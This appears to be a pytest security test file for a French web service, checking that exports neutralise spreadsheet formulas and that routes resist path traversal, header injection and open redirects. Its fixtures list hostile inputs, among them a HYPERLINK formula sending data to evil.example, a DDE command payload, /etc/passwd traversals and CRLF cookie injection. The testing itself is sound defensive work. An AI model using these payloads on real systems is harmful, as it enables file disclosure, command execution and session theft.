"""Names, addresses and exports made to lead astray: no path out of its folder, no forged header, no formula, no other site."""

import csv
import io
import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import httpx
import openpyxl
import pytest
from sqlalchemy import select

from model.errors import VigieError
from model.store import load_artefact
from service.access import after_sign_in
from service.cases.cases import Words, create_case, find_case
from service.cases.contents import add_texts
from service.cases.records import add_answer
from service.cases.schema import CASES
from service.inert import FORMULA_SIGNS
from service.workplace.choices import choose
from service.workplace.comments import add_comment
from service.workplace.imports import Wanted, begin, find_import, run
from service.workplace.items import Received, add_item, keep_prediction
from tests.service.workplace.conftest import Place, Visitor
from tests.service.workplace.made import prediction, say

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"cliquez")'
SIGNS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "'=1+1", FORMULA, "=cmd|' /C calc'!A0")
TRAVERSALS = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "..\\..\\..\\etc\\passwd",
    "/etc/passwd",
    "%00",
    "a%00.csv",
    "a%0d%0aSet-Cookie:%20vigie_session=vol",
    "a%22;filename=%22x.exe",
    "%ff%fe",
    "x" * 3_000,
)


@pytest.fixture
def filled(place: Place) -> Place:
    """A workplace whose texts, provenance, notes and cases are formulas."""
    choose(place.engine, "second_share", 0.0, place.people["administrator"])
    ids = []
    with place.engine.begin() as connection:
        for number, sign in enumerate(SIGNS):
            words = {name: sign[:60] for name in ("theme", "region")} | {"author": sign, "parent": sign, "url": sign}
            text = f"{sign} guérit tout, venez {number}"
            received = Received(text, external_id=f"{sign}{number}", source=sign, channel="ad", **words)
            ids.append(add_item(connection, received, None).id)
            keep_prediction(connection, ids[-1], prediction("miracle_cure"))
            add_comment(connection, ids[-1], place.people["analyst"], sign)
    for id in ids[:3]:
        say(place.engine, id, place.people["reviewer"], "miracle_cure")
    case = create_case(place.engine, place.people["reviewer"], Words(FORMULA, FORMULA, FORMULA, None, "", (), ()))
    with place.engine.begin() as connection:
        add_texts(connection, case.id, place.people["reviewer"], ids[:3], FORMULA)
        add_answer(connection, case.id, place.people["reviewer"], "2026-11-02", "mail", FORMULA)
    return place


def assert_no_formula_in_csv(content: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows
    found = [cell for row in rows for cell in row if cell.startswith(tuple(FORMULA_SIGNS)) and not _is_number(cell)]
    assert not found
    return rows


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula_in_workbook(content: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    words = [str(cell.value) for cell in cells if cell.data_type in ("s", "inlineStr")]
    assert not [one for one in words if one.startswith(tuple(FORMULA_SIGNS))]


def _waited(visitor: Visitor, kind: str) -> bytes:
    asked = visitor.client.post(f"/v1/exports?format={kind}", headers={"x-csrf-token": visitor.csrf}).json()
    for _ in range(300):
        if visitor.get(asked["url"]).json()["state"] == "done":
            return visitor.get(f"{asked['url']}/file").content
        time.sleep(0.2)
    raise AssertionError("l'export n'est pas venu")


def test_no_export_of_texts_holds_a_formula(filled: Place) -> None:
    visitor = filled.visitor("administrator")
    rows = assert_no_formula_in_csv(visitor.get("/v1/export?format=csv").content)
    assert len(rows) == len(SIGNS) + 1
    assert_no_formula_in_csv(_waited(visitor, "csv"))
    assert_no_formula_in_workbook(_waited(visitor, "xlsx"))


def test_no_export_of_figures_nor_of_the_journal_holds_a_formula(filled: Place) -> None:
    visitor = filled.visitor("administrator")
    figures = visitor.get("/v1/observatory").json()["sheets"]
    names = [sheet["id"] for sheet in figures]
    assert names
    for name in names:
        assert_no_formula_in_csv(visitor.get(f"/observatoire/{name}.csv").content)
    assert_no_formula_in_workbook(visitor.get("/observatoire/tout.xlsx").content)
    assert_no_formula_in_csv(visitor.get("/journal/export?format=csv").content)


def test_no_file_of_a_case_holds_a_formula(filled: Place) -> None:
    visitor = filled.visitor("reviewer")
    with filled.engine.connect() as connection:
        case = find_case(connection, connection.execute(select(CASES.c.id)).scalar_one())
    assert case
    for kind in ("csv", "zip"):
        made = visitor.post(f"/dossiers/{case.name}/export", {"kind": kind, "masked": "1"})
        assert made.status_code == 200
        if kind == "csv":
            assert_no_formula_in_csv(made.content)
        else:
            with ZipFile(io.BytesIO(made.content)) as archive:
                names = archive.namelist()
                assert not [name for name in names if name.startswith("/") or ".." in name or "\\" in name]
                for name in names:
                    if name.endswith(".csv"):
                        assert_no_formula_in_csv(archive.read(name))


def test_no_list_of_errors_holds_a_formula(filled: Place) -> None:
    rows = "".join(json.dumps({"text": "", "id": sign}) + "\n" for sign in SIGNS)
    id = begin(filled.engine, filled.settings, Wanted("=1+1"), ".jsonl", io.BytesIO(rows.encode()))
    run(filled.engine, filled.settings, id)
    told = assert_no_formula_in_csv(filled.visitor("analyst").get(f"/imports/{id}/erreurs.csv").content)
    assert len(told) == len(SIGNS) + 1


def _routes(place: Place) -> Iterator[str]:
    """Every address of the service that takes a name or an identifier."""
    from service.app import create_app
    from service.declared import declared_routes

    for route in declared_routes(create_app(place.settings)):
        if "{" in route.path and route.method == "GET":
            yield route.path


def test_no_address_leads_out_of_its_folder_nor_forges_a_header(place: Place) -> None:
    client: httpx.Client = place.visitor("administrator").client
    addresses = [*_routes(place), "/static/{name}", "/{name}"]
    assert len(addresses) > 30
    for address in addresses:
        for name in TRAVERSALS:
            head, _, rest = address.partition("{")
            answer = client.get(httpx.URL(place.url).copy_with(raw_path=(head + name + rest.partition("}")[2]).encode()))
            assert answer.status_code < 500, f"{address} {name} : {answer.status_code}"
            assert b"root:" not in answer.content, f"{address} {name}"
            assert "vol" not in answer.headers.get("set-cookie", "")
            disposition = answer.headers.get("content-disposition", "")
            assert "x.exe" not in disposition
            assert "\r" not in disposition


@pytest.mark.parametrize(
    "name", ["../../../../etc/passwd", "/etc/passwd", "a/../../b.csv", "..\\..\\b.csv", "\x00.csv", "é" * 400 + ".csv"]
)
def test_the_name_of_a_file_sent_is_only_a_name(place: Place, name: str) -> None:
    visitor = place.visitor("analyst")
    sent = {"file": (name if name.endswith(".csv") else f"{name}.csv", b"text\nbonjour\n", "text/csv")}
    answer = visitor.client.post("/imports", data={"csrf": visitor.csrf}, files=sent)
    assert answer.status_code in (303, 422)
    if answer.status_code == 303:
        id = answer.headers["location"].rpartition("/")[2]
        with place.engine.connect() as connection:
            row = find_import(connection, id)
        assert row
        assert Path(row["options"]["file"]).name == row["options"]["file"]
        assert row["options"]["file"].startswith(id)
    assert all(path.resolve().is_relative_to(place.settings.spool_dir.resolve()) for path in place.settings.spool_dir.rglob("*"))


@pytest.mark.parametrize("name", ["../secret", "/etc", "a/../../b", "..", ".", "a\x00b", "x" * 5_000])
def test_the_name_of_a_model_is_only_a_name(artefacts: Path, name: str) -> None:
    with pytest.raises(VigieError):
        load_artefact(artefacts, name)


ELSEWHERE = (
    "//evil.example",
    "///evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "https://evil.example",
    "https:evil.example",
    "javascript:alert(1)",
    "/\t/evil.example",
    "/\n/evil.example",
    "\t//evil.example",
    " //evil.example",
    "/%09/evil.example\r\nSet-Cookie: a=b",
    "http:/evil.example",
    "@evil.example",
    "",
)


@pytest.mark.parametrize("wanted", ELSEWHERE)
def test_signing_in_never_leads_to_another_site(wanted: str) -> None:
    where = httpx.URL("http://vigie.example/connexion").join(after_sign_in(wanted, "/file"))
    assert where.host == "vigie.example"
    assert after_sign_in("/textes/1?partir=1", "/file") == "/textes/1?partir=1"


@pytest.mark.parametrize("wanted", ELSEWHERE)
def test_masking_never_leads_to_another_site(place: Place, wanted: str) -> None:
    visitor = place.visitor("analyst")
    answer = visitor.post("/masque", {"suite": wanted})
    assert answer.status_code in (303, 422)
    if answer.status_code == 303:
        assert httpx.URL(place.url).join(answer.headers["location"]).host == "127.0.0.1"


def test_a_request_made_of_odd_headers_is_answered(place: Place) -> None:
    client = place.client()
    odd: list[dict[str, Any]] = [
        {"authorization": "Bearer " + "x" * 8_000},
        {"authorization": "Basic ////"},
        {"authorization": "Basic w6kg"},
        {"cookie": "vigie_session=" + "é" * 10},
        {"cookie": "vigie_session=" + "a" * 8_000},
        {"content-type": "multipart/form-data"},
        {"content-type": "application/json; charset=utf-32"},
        {"content-encoding": "gzip"},
        {"range": "bytes=0-9999999999999"},
        {"accept": "*/*;q=é"},
        {"if-none-match": "*" * 5_000},
    ]
    for headers in odd:
        made = {name: value.encode("latin-1", "replace") for name, value in headers.items()}
        for path in ("/v1/labels", "/static/page.css", "/file"):
            assert client.get(path, headers=made).status_code < 500, headers
        assert client.post("/v1/predict", headers=made, content=b"{}").status_code < 500, headers
